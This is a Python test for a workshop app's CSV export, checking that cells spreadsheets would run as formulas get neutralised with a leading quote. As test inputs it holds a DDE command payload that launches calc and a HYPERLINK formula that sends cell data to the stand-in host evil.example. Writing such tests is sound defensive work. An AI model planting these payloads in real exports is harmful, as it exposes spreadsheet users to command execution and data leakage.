import csv
import io

from pnyx.workshops import actions
from pnyx.workshops.models import Table


def test_outputs_csv_neutralises_cells_that_spreadsheets_run_as_formulas(
    organizer_client, published
):
    table = Table.objects.get(hall=published.hall, number=4)
    actions.submit_output(
        table,
        {"impacts": "@SUM(1+1)*cmd|' /C calc'!A0"},
        step=published.hall.steps.get(number=1),
        facilitator='=HYPERLINK("http://evil.example/?"&A1,"Camille")',
    )
    r = organizer_client.get("/ateliers/organisation/contributions.csv")
    row = next(csv.DictReader(io.StringIO(r.content.decode())))
    assert row["impacts"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["facilitator"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Camille")'
    # Other cells are untouched.
    assert row["table"] == "4" and row["step"] == "1"
